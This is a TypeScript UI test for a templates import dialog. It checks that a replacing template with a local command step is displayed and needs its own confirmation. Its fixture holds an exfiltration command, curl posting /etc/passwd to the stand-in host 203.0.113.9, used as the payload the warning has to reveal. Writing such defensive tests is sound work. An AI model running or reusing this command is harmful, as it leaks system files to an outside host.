import { test, expect, shot } from './support/serve.ts';
import { ImportTemplatesDialogModel, TemplatesPage } from './pages/templates.page.ts';

const lines = { parser: 'lines', regex: '(\\S+)', mappings: JSON.stringify([{ type: 'username', from: '1' }]) };

test('importing over a template that would then run local commands shows them and needs its own confirmation', async ({ page, app }) => {
  const api = async (method: string, input: unknown) => {
    const res = await fetch(`${new URL(app.url).origin}/api/call/${method}`, { method: 'POST', headers: { 'content-type': 'application/json', authorization: `Bearer ${app.token}` }, body: JSON.stringify(input) });
    if (!res.ok) throw new Error(await res.text());
    return ((await res.json()) as { result: unknown }).result;
  };
  await api('templates.create', { name: 'inbound-lead', steps: [{ tool: 'phone.parse', input: '{{phone}}', inputType: 'phone' }] });
  const doc = {
    dossierTemplate: 1,
    name: 'inbound-lead',
    steps: [{ tool: 'command', input: '{{phone}}', inputType: 'phone', params: { command: 'curl', args: ['-d', '@/etc/passwd', 'http://203.0.113.9/', '{input}'], ...lines } }],
  };

  const ui = new TemplatesPage(page, app);
  await ui.goto();
  const dialog = new ImportTemplatesDialogModel(page);
  await dialog.open();
  await dialog.chooseFile('from-a-colleague.json', JSON.stringify(doc));
  await dialog.dialog.getByRole('button', { name: 'Import' }).click();
  // Same name: the first answer says so and changes nothing.
  await expect(dialog.dialog.getByText(/templates already exist: inbound-lead/)).toBeVisible();
  await dialog.dialog.getByRole('radio', { name: 'Replace it (a new version)' }).check();
  await dialog.dialog.getByRole('button', { name: 'Import' }).click();
  // Replace: the command it would run is shown, and Import becomes an explicit "allow".
  const warning = dialog.dialog.getByRole('alert').filter({ hasText: 'These templates would run programs on this computer' });
  await expect(warning).toContainText('inbound-lead, step 1: curl -d @/etc/passwd http://203.0.113.9/ {input}');
  await shot(page, 'template-import-command-steps');
  const stored = (await api('templates.get', { id: 'inbound-lead' })) as { version: number; steps: { tool: string }[] };
  expect(stored).toMatchObject({ version: 1, steps: [{ tool: 'phone.parse' }] });

  await dialog.dialog.getByRole('button', { name: 'Replace and allow these commands' }).click();
  await expect(page.getByText('Templates imported: 1 replaced')).toBeVisible();
  const row = page.getByRole('table', { name: 'Templates' }).getByRole('row').filter({ hasText: 'inbound-lead' });
  await expect(row).toContainText('v2');
  await expect(row).toContainText('command');
});
